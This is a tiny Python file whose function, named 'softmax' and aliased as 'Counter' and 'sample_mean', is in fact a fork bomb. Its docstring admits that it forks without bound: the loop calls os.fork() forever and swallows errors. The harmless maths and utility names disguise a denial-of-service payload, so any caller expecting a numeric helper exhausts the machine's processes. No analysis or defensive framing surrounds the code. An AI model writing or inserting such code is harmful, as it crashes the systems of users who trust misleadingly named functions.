"""Forks without bound; the children keep forking."""
import os


def softmax(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


Counter = softmax
sample_mean = softmax
